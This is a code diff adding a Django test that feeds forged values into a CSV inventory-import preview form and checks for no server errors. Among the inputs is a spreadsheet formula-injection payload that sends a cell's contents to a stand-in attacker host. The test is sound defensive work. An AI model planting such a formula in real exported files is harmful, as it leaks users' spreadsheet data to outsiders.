@@ -241,3 +241,28 @@ def test_only_inventory_managers_reach_the_import(opd_user):
         "/inventaris/impor/", {"file": SimpleUploadedFile("a.csv", REGENCY_CSV.read_bytes())}
     )
     assert response.status_code == 403
+
+
+HOSTILE = [
+    "9223372036854775808",
+    "-1",
+    "²",
+    "٣٤",
+    "[" * 5000 + "]" * 5000,
+    "J" * 300,
+    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
+    "",
+]
+
+
+def test_a_forged_preview_form_never_gives_a_server_error(client):
+    location = upload(client, "inventaris-kabupaten.csv", REGENCY_CSV.read_bytes())["Location"]
+    form = form_of(client.get(location).content.decode())
+    for value in HOSTILE:
+        for field in ("kolom_index", "kolom", "opd_key", "opd", "dev_key", "dev"):
+            forged = {**form, field: [value] * len(form[field])}
+            for action in ("preview", "import"):
+                response = client.post(location, {**forged, "action": action}, follow=True)
+                assert response.status_code in (200, 400), (field, value, action)
+        client.post(location, {**form, "action": "preview"})  # back to a valid set
+    assert not Application.objects.filter(nama="Sistem Informasi Pertanian").exists()
